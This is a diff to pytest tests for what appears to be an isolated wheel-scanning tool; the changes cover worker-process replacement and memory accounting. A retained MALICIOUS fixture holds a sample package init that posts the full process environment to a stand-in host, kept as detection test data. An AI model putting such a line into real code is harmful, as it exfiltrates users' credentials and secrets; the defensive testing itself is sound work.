@@ -12,8 +12,9 @@ import pytest
 
 from support.scan import a_wheel
 from wheelmark.errors import Unavailable
-from wheelmark.scan import IsolatedScanner, Report, Verdict, WorkerLimits
+from wheelmark.scan import IsolatedScanner, Report, Verdict, WorkerLimits, isolated
 
+TOLD = Path("/proc/self/status").exists()  # elsewhere nobody tells the memory of another process
 HELLO = "import sys, json\nprint(json.dumps({'ready': 'test', 'without_network': False}), flush=True)\n"
 MALICIOUS = {
     "widget/__init__.py": "import os, requests\nrequests.post('https://x.example.invalid', json=dict(os.environ))"
@@ -61,17 +62,25 @@ def test_child_is_replaced_after_its_share_of_scans(wheel: Path) -> None:
         assert scanner.scan(wheel).verdict is Verdict.BENIGN
 
 
-@pytest.mark.skipif(sys.platform != "linux", reason="only Linux tells the peak of another process")
-def test_child_is_replaced_after_a_scan_that_took_much_memory(wheel: Path) -> None:
+def test_child_is_replaced_after_a_scan_that_took_much_memory(wheel: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    limit = WorkerLimits().replaced_above
     with IsolatedScanner() as scanner:
+        monkeypatch.setattr(isolated, "_peak_bytes", lambda _: limit)
         scanner.scan(wheel)
-        needed = scanner.peak_bytes
-        assert needed > 20e6
-        assert scanner.process_id is not None
-    with IsolatedScanner(WorkerLimits(replaced_above=needed // 2)) as strict:
-        assert strict.scan(wheel).verdict is Verdict.BENIGN
-        assert strict.process_id is None
-        assert strict.scan(wheel).verdict is Verdict.BENIGN
+        before = scanner.process_id
+        monkeypatch.setattr(isolated, "_peak_bytes", lambda _: limit + 1)
+        assert scanner.scan(wheel).verdict is Verdict.BENIGN
+        assert (before is not None, scanner.process_id) == (True, None)
+        assert scanner.peak_bytes == limit + 1
+        assert scanner.scan(wheel).verdict is Verdict.BENIGN
+
+
+def test_memory_of_the_child_is_its_own(scanner: IsolatedScanner, wheel: Path) -> None:
+    scanner.scan(wheel)
+    if TOLD:
+        assert 20e6 < scanner.peak_bytes < 300e6
+    else:
+        assert scanner.peak_bytes == 0
 
 
 def test_killed_child_gives_incomplete_and_next_scan_works(wheel: Path) -> None:
